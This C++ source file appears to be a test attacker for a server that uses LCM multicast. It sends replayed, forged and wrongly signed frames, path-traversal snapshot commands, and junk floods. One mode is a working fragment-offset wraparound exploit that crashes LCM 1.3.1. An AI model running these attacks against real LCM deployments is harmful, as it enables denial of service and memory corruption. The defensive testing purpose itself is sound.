// vd_hostile_publisher: an attacker on the LCM group, for tests/e2e/hostile_test.sh. It speaks
// LCM's UDP multicast wire format itself (LC02 datagrams, LC03 fragments: lcm/udpm_util.h), so it
// can send what no LCM client would: truncated, dangling and flooding datagrams.
//   record --lcm-url URL --count N --out DIR       the next N VDEFORM_FRAMES messages, raw, into DIR
//   attack --group G --port P --source-id ID --earlier DIR --current DIR
//          frames and commands a forger or replayer sends, paced; prints the counters each kind
//          should move on the server as key=value lines
//   forge-output --group G --port P --source-id ID --current DIR --seconds S
//          for S seconds, status messages naming the current run's frames as processed and meshes
//          of made-up frames, unsigned and signed under a wrong key; prints how many of each
//   flood --group G --port P --seconds S            junk datagrams, junk frames, dangling fragments
//          from many ports and complete 6.6 MB messages, as fast as it can; prints what it sent
//   fill --group G --port P --count MB              every fragment but the last of one MB-sized
//          message (what LCM's reassembly holds for one sender)
//   wrap --group G --port P                         a fragment whose offset wraps LCM 1.3.1's
//          32-bit bounds check (deploy/lcm-guard.nft drops it)
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include <lcm/lcm-cpp.hpp>

#include "vd/common/auth.h"
#include "vd/common/flags.h"
#include "vd/common/messages.h"

namespace vd {
namespace {

namespace fs = std::filesystem;
using Bytes = std::vector<uint8_t>;

constexpr uint32_t kMagicShort = 0x4c433032;  // "LC02"
constexpr uint32_t kMagicLong = 0x4c433033;   // "LC03"
// LCM's largest unfragmented payload and fragment payload on Linux (lcm/udpm_util.h).
constexpr size_t kShortMax = 65499;
constexpr size_t kFragmentPayload = 65487;

void PutU32(Bytes* b, uint32_t v) {
  for (int k = 3; k >= 0; --k) b->push_back(uint8_t(v >> (8 * k)));
}
void PutU16(Bytes* b, uint16_t v) {
  b->push_back(uint8_t(v >> 8));
  b->push_back(uint8_t(v));
}

// One UDP socket sending to the group (ttl 0, looped back to this host's receivers).
class Sender {
 public:
  Sender(const std::string& group, int port) {
    fd_ = ::socket(AF_INET, SOCK_DGRAM, 0);
    unsigned char ttl = 0, loop = 1;
    setsockopt(fd_, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl);
    setsockopt(fd_, IPPROTO_IP, IP_MULTICAST_LOOP, &loop, sizeof loop);
    addr_.sin_family = AF_INET;
    addr_.sin_port = htons(uint16_t(port));
    inet_pton(AF_INET, group.c_str(), &addr_.sin_addr);
  }
  ~Sender() { ::close(fd_); }
  Sender(const Sender&) = delete;
  Sender& operator=(const Sender&) = delete;
  bool ok() const { return fd_ >= 0; }

  void Datagram(const Bytes& d) {
    if (::sendto(fd_, d.data(), d.size(), 0, reinterpret_cast<const sockaddr*>(&addr_), sizeof addr_) < 0)
      ++errors_;
  }
  // A whole LCM message as an LCM client sends it: one LC02 datagram or LC03 fragments.
  void Message(const std::string& channel, const Bytes& payload) {
    const uint32_t seqno = seqno_++;
    if (payload.size() + channel.size() + 1 <= kShortMax) {
      Bytes d;
      PutU32(&d, kMagicShort);
      PutU32(&d, seqno);
      d.insert(d.end(), channel.begin(), channel.end());
      d.push_back(0);
      d.insert(d.end(), payload.begin(), payload.end());
      return Datagram(d);
    }
    const size_t first = kFragmentPayload - channel.size() - 1;
    const size_t count = 1 + (payload.size() - first + kFragmentPayload - 1) / kFragmentPayload;
    size_t offset = 0;
    for (size_t k = 0; k < count; ++k) {
      const size_t n = std::min(payload.size() - offset, k == 0 ? first : kFragmentPayload);
      Datagram(Fragment(seqno, uint32_t(payload.size()), uint32_t(offset), uint16_t(k), uint16_t(count),
                        k == 0 ? channel : "", payload.data() + offset, n));
      offset += n;
      // Paced like a sender whose peer keeps up: no fragment is lost to a full receive buffer.
      std::this_thread::sleep_for(std::chrono::microseconds(200));
    }
  }
  // The first fragment of a message whose other fragments never come.
  void Dangling(const std::string& channel, uint32_t declared_size, size_t bytes) {
    const Bytes junk(bytes, 0x5a);
    Datagram(Fragment(seqno_++, declared_size, 0, 0, uint16_t(declared_size / kFragmentPayload + 1), channel,
                      junk.data(), junk.size()));
  }
  int64_t errors() const { return errors_; }
  static Bytes FragmentBytes(uint32_t seqno, uint32_t size, uint32_t offset, uint16_t no, uint16_t count,
                             const std::string& channel, const uint8_t* data, size_t n) {
    return Fragment(seqno, size, offset, no, count, channel, data, n);
  }

 private:
  static Bytes Fragment(uint32_t seqno, uint32_t size, uint32_t offset, uint16_t no, uint16_t count,
                        const std::string& channel, const uint8_t* data, size_t n) {
    Bytes d;
    PutU32(&d, kMagicLong);
    PutU32(&d, seqno);
    PutU32(&d, size);
    PutU32(&d, offset);
    PutU16(&d, no);
    PutU16(&d, count);
    if (no == 0) {
      d.insert(d.end(), channel.begin(), channel.end());
      d.push_back(0);
    }
    d.insert(d.end(), data, data + n);
    return d;
  }
  int fd_ = -1;
  sockaddr_in addr_{};
  uint32_t seqno_ = 1;
  int64_t errors_ = 0;
};

template <typename Msg>
Bytes Encode(const Msg& m) {
  Bytes b(size_t(m.getEncodedSize()));
  m.encode(b.data(), 0, int(b.size()));
  return b;
}

std::vector<Bytes> ReadDir(const std::string& dir) {
  std::vector<fs::path> paths;
  for (const auto& e : fs::directory_iterator(dir)) paths.push_back(e.path());
  std::sort(paths.begin(), paths.end());
  std::vector<Bytes> out;
  for (const auto& p : paths) {
    std::ifstream in(p, std::ios::binary);
    out.emplace_back(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
  }
  return out;
}

int Record(const std::string& url, int count, const std::string& out, double timeout_s) {
  lcm::LCM lcm(url);
  if (!lcm.good()) return std::fprintf(stderr, "hostile: cannot open LCM at %s\n", url.c_str()), 1;
  fs::create_directories(out);
  int n = 0;
  struct Handler {
    int* n;
    const std::string* out;
    void On(const lcm::ReceiveBuffer* rbuf, const std::string&) {
      char name[32];
      std::snprintf(name, sizeof name, "/%03d.bin", (*n)++);
      std::ofstream(*out + name, std::ios::binary).write(static_cast<const char*>(rbuf->data), rbuf->data_size);
    }
  } handler{&n, &out};
  lcm.subscribe(kFrameChannel, &Handler::On, &handler);
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(timeout_s);
  while (n < count && std::chrono::steady_clock::now() < end) lcm.handleTimeout(100);
  std::printf("recorded=%d\n", n);
  return n == count ? 0 : 1;
}

int Attack(const std::string& group, int port, const std::string& source, const std::string& earlier_dir,
           const std::string& current_dir) {
  Sender tx(group, port);
  if (!tx.ok()) return std::fprintf(stderr, "hostile: no socket\n"), 1;
  const std::vector<Bytes> earlier = ReadDir(earlier_dir), current = ReadDir(current_dir);
  if (earlier.empty() || current.empty()) return std::fprintf(stderr, "hostile: nothing recorded\n"), 1;
  auto base = DecodeLcm<vdeform::rgbd_frame_t>(current[0].data(), current[0].size());
  if (!base.ok()) return std::fprintf(stderr, "hostile: %s\n", base.status().ToString().c_str()), 1;
  std::map<std::string, int> expect;
  auto frame = [&](const Bytes& b, const char* counter) {
    tx.Message(kFrameChannel, b);
    ++expect[counter];
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  };
  // Exact replays: of the earlier run (another epoch, older capture times) and of this run.
  for (const Bytes& b : earlier) frame(b, "rejected_replayed");
  for (const Bytes& b : current) frame(b, "frames_duplicate");
  // Mutated payload bytes (the message still decodes; the signature no longer matches).
  for (size_t k = 0; k < 4; ++k) {
    vdeform::rgbd_frame_t m = *base;
    m.depth_data[(k * 7919) % m.depth_data.size()] ^= uint8_t(1u << k);
    frame(Encode(m), "rejected_bad_signature");
  }
  // Truncated messages.
  const Bytes whole = current[0];
  for (size_t keep : {whole.size() / 2, whole.size() / 3, size_t(40), size_t(9)})
    frame(Bytes(whole.begin(), whole.begin() + long(keep)), "rejected_malformed_message");
  // Oversized: a declared 4096 x 4096 image, refused before its signature is even checked.
  for (int k = 0; k < 2; ++k) {
    vdeform::rgbd_frame_t m = *base;
    m.width = m.height = 4096;
    frame(Encode(m), "rejected_oversized");
  }
  // Forged under the accepted id, unsigned: huge, repeating and ordinary sequence numbers.
  for (int64_t seq : {int64_t(1) << 62, int64_t(1) << 62, (int64_t(1) << 62) + 1, int64_t(7), int64_t(7)}) {
    vdeform::rgbd_frame_t m = *base;
    m.seq = seq;
    m.auth.clear();
    m.auth_size = 0;
    frame(Encode(m), "rejected_unsigned");
  }
  // Negative sequence numbers: refused as invalid before anything else.
  for (int64_t seq : {int64_t(-1), INT64_MIN}) {
    vdeform::rgbd_frame_t m = *base;
    m.seq = seq;
    frame(Encode(m), "rejected_invalid_frame");
  }
  // Signed under a key that is not the source's.
  for (int64_t seq : {int64_t(1) << 62, int64_t(3)}) {
    vdeform::rgbd_frame_t m = *base;
    m.seq = seq;
    if (!SignFrame(std::string(kFrameKeyBytes, 'x'), &m).ok()) return 1;
    frame(Encode(m), "rejected_bad_signature");
  }
  // Another source id.
  for (int k = 0; k < 2; ++k) {
    vdeform::rgbd_frame_t m = *base;
    m.source_id = source + "-intruder";
    frame(Encode(m), "frames_foreign");
  }
  // Commands: unsigned RESET, wrongly signed snapshots with escaping paths.
  const int64_t now = std::chrono::duration_cast<std::chrono::microseconds>(
                          std::chrono::system_clock::now().time_since_epoch())
                          .count();
  int k = 0;
  for (const char* path : {"", "../../escape", "/tmp/vd-hostile-abs", "a/../../escape"}) {
    vdeform::control_t c{};
    c.utime = now + k;
    c.command = k == 0 ? vdeform::control_t::COMMAND_RESET : vdeform::control_t::COMMAND_SAVE_SNAPSHOT;
    c.path = path;
    c.sender = "hostile-" + std::to_string(k);
    c.auth_size = 0;
    if (k++ >= 2) SignControl("not-the-servers-control-key", &c);
    tx.Message(kControlChannel, Encode(c));
    ++expect["control_refused"];
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  // REQUEST_MESH from 20 names, 200 in all: an amplifier without the once-a-second rule.
  for (int i = 0; i < 200; ++i) {
    vdeform::control_t c{};
    c.utime = now;
    c.command = vdeform::control_t::COMMAND_REQUEST_MESH;
    c.sender = "viewer-" + std::to_string(i % 20);
    c.auth_size = 0;
    tx.Message(kControlChannel, Encode(c));
    std::this_thread::sleep_for(std::chrono::microseconds(500));
  }
  std::printf("mesh_requests_sent=200\n");
  for (const auto& [counter, n] : expect) std::printf("%s=%d\n", counter.c_str(), n);
  std::printf("send_errors=%lld\n", (long long)tx.errors());
  return tx.errors() == 0 ? 0 : 1;
}

// What a forger without the server's output key sends on the status and mesh channels: every 25 ms
// a status naming frame `tick % 16` of the capture's current run (its epoch learned from a
// recorded frame) as processed, unsigned, and one naming frame 2^40 signed under a wrong key
// (either would release a lockstep capture that does not verify); and a valid Draco mesh of a
// made-up frame, unsigned (seq 100000 + tick) and wrongly signed (200000 + tick).
int ForgeOutput(const std::string& group, int port, const std::string& source, const std::string& current_dir,
                double seconds) {
  Sender tx(group, port);
  if (!tx.ok()) return std::fprintf(stderr, "hostile: no socket\n"), 1;
  const std::vector<Bytes> current = ReadDir(current_dir);
  if (current.empty()) return std::fprintf(stderr, "hostile: nothing recorded\n"), 1;
  auto base = DecodeLcm<vdeform::rgbd_frame_t>(current[0].data(), current[0].size());
  if (!base.ok()) return std::fprintf(stderr, "hostile: %s\n", base.status().ToString().c_str()), 1;
  TriangleMesh tetrahedron;
  tetrahedron.positions = {0, 0, 1, 0.1f, 0, 1, 0, 0.1f, 1, 0, 0, 1.1f};
  tetrahedron.colors = {255, 0, 0, 0, 255, 0, 0, 0, 255, 255, 255, 0};
  tetrahedron.triangles = {0, 2, 1, 0, 1, 3, 0, 3, 2, 1, 2, 3};
  const std::string wrong_key(kFrameKeyBytes, 'f');
  int64_t statuses = 0, meshes = 0;
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  for (int64_t tick = 0; std::chrono::steady_clock::now() < end; ++tick) {
    const int64_t now = std::chrono::duration_cast<std::chrono::microseconds>(
                            std::chrono::system_clock::now().time_since_epoch())
                            .count();
    for (const bool sign : {false, true}) {
      vdeform::server_status_t st{};
      st.utime = now;
      st.state = vdeform::server_status_t::STATE_TRACKING;
      st.message = "forged";
      st.frames_processed = 1000 + tick;
      st.last_processed_seq = sign ? int64_t(1) << 40 : tick % 16;
      st.last_source_id = source;
      st.last_epoch = base->epoch;
      st.epoch = 4242;
      st.out_seq = 1'000'000 + tick;
      st.auth_size = 0;
      if (sign && !SignStatus(wrong_key, &st).ok()) return 1;
      tx.Message(kStatusChannel, Encode(st));
      ++statuses;
      auto mesh = MeshToMessage(tetrahedron, now, (sign ? 200000 : 100000) + tick, vdeform::mesh_t::KIND_LIVE);
      if (!mesh.ok()) return std::fprintf(stderr, "hostile: %s\n", mesh.status().ToString().c_str()), 1;
      mesh->epoch = 4242;
      mesh->out_seq = 1'000'000 + tick;
      if (sign && !SignMesh(wrong_key, &*mesh).ok()) return 1;
      tx.Message(kMeshChannel, Encode(*mesh));
      ++meshes;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(25));
  }
  std::printf("forged_status=%lld\nforged_meshes=%lld\nsend_errors=%lld\n", (long long)statuses, (long long)meshes,
              (long long)tx.errors());
  return tx.errors() == 0 ? 0 : 1;
}

// All fragments but the last of one message of `megabytes` MB: LCM 1.3 allocates the declared size
// on the first fragment and keeps the buffer until the sender's next message or an eviction.
int Fill(const std::string& group, int port, int megabytes) {
  Sender tx(group, port);
  const uint32_t size = uint32_t(megabytes) << 20;
  const uint16_t count = uint16_t(size / kFragmentPayload + 1);
  const Bytes chunk(kFragmentPayload, 0x3c);
  int64_t sent = 0;
  uint32_t offset = 0;
  for (uint16_t no = 0; no + 1 < count; ++no) {
    const std::string channel = no == 0 ? kFrameChannel : "";
    const size_t n = kFragmentPayload - (no == 0 ? channel.size() + 1 : 0);
    tx.Datagram(Sender::FragmentBytes(7, size, offset, no, count, channel, chunk.data(), n));
    offset += uint32_t(n);
    sent += int64_t(n);
    if (no % 16 == 15) std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  std::printf("declared_bytes=%u\nsent_bytes=%lld\n", size, (long long)sent);
  return 0;
}

// LCM 1.3.1 checks a fragment with `fragment_offset + size > data_size` in 32 bits: an offset near
// 2^32 wraps the sum and the copy lands 4 GB past the reassembly buffer (the server dies with
// SIGSEGV). Two datagrams: a first fragment, then one at offset 2^32 - 256.
int Wrap(const std::string& group, int port) {
  Sender tx(group, port);
  const Bytes data(1024, 0x42);
  tx.Datagram(Sender::FragmentBytes(99, 1u << 20, 0, 0, 20, kFrameChannel, data.data(), 100));
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  tx.Datagram(Sender::FragmentBytes(99, 1u << 20, 0xffffff00u, 1, 20, "", data.data(), data.size()));
  std::printf("wrap_fragments=2\n");
  return 0;
}

int Flood(const std::string& group, int port, double seconds) {
  Sender tx(group, port);
  // LCM keeps one reassembly buffer per sender address: many ports, many dangling messages.
  std::vector<std::unique_ptr<Sender>> ports;
  for (int i = 0; i < 64; ++i) ports.push_back(std::make_unique<Sender>(group, port));
  std::mt19937 rng(15);
  int64_t garbage = 0, junk_frames = 0, dangling = 0, oversized = 0;
  const auto end = std::chrono::steady_clock::now() + std::chrono::duration<double>(seconds);
  for (int round = 0; std::chrono::steady_clock::now() < end; ++round) {
    if (round % 50 == 0) {
      // A complete message above the server's 6 MB payload limit (103 fragments).
      Bytes big(6600000);
      for (auto& b : big) b = uint8_t(rng());
      tx.Message(kFrameChannel, big);
      ++oversized;
    }
    for (int i = 0; i < 100; ++i) {
      Bytes d(1400);
      for (auto& b : d) b = uint8_t(rng());
      tx.Datagram(d);  // no LCM magic: dropped by LCM before any handler
      ++garbage;
    }
    for (int i = 0; i < 10; ++i) {
      Bytes junk(200 + rng() % 1000);
      for (auto& b : junk) b = uint8_t(rng());
      tx.Message(kFrameChannel, junk);  // a VDEFORM_FRAMES message that is no frame
      ++junk_frames;
    }
    for (auto& p : ports) {
      p->Dangling(kFrameChannel, 4u << 20, 1000);
      ++dangling;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  std::printf("garbage_datagrams=%lld\njunk_frames=%lld\ndangling_fragments=%lld\noversized_messages=%lld\n",
              (long long)garbage, (long long)junk_frames, (long long)dangling, (long long)oversized);
  return 0;
}

}  // namespace
}  // namespace vd

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: vd_hostile_publisher record|attack|forge-output|flood|fill|wrap [flags]\n");
    return 2;
  }
  const std::string mode = argv[1];
  std::string url, out, group = "239.255.76.67", source = "camA", earlier, current;
  int port = 7667, count = 1;
  double seconds = 2.0, timeout = 60.0;
  vd::FlagParser flags("vd_hostile_publisher " + mode);
  flags.Add("lcm-url", &url, "record: the LCM URL");
  flags.Add("count", &count, "record: messages to record; fill: megabytes");
  flags.Add("out", &out, "record: folder for them");
  flags.Add("timeout", &timeout, "record: seconds to wait for them");
  flags.Add("group", &group, "attack, flood: multicast group");
  flags.Add("port", &port, "attack, flood: port");
  flags.Add("source-id", &source, "attack, forge-output: the accepted source id");
  flags.Add("earlier", &earlier, "attack: frames recorded from an earlier run of the source");
  flags.Add("current", &current, "attack, forge-output: frames recorded from its current run");
  flags.Add("seconds", &seconds, "flood, forge-output: how long");
  if (auto rc = flags.ParseCommandLine(argc - 1, argv + 1, "vd_hostile_publisher")) return *rc;
  if (mode == "record") return vd::Record(url, count, out, timeout);
  if (mode == "attack") return vd::Attack(group, port, source, earlier, current);
  if (mode == "flood") return vd::Flood(group, port, seconds);
  if (mode == "forge-output") return vd::ForgeOutput(group, port, source, current, seconds);
  if (mode == "fill") return vd::Fill(group, port, count);
  if (mode == "wrap") return vd::Wrap(group, port);
  std::fprintf(stderr, "vd_hostile_publisher: unknown mode '%s'\n", mode.c_str());
  return 2;
}
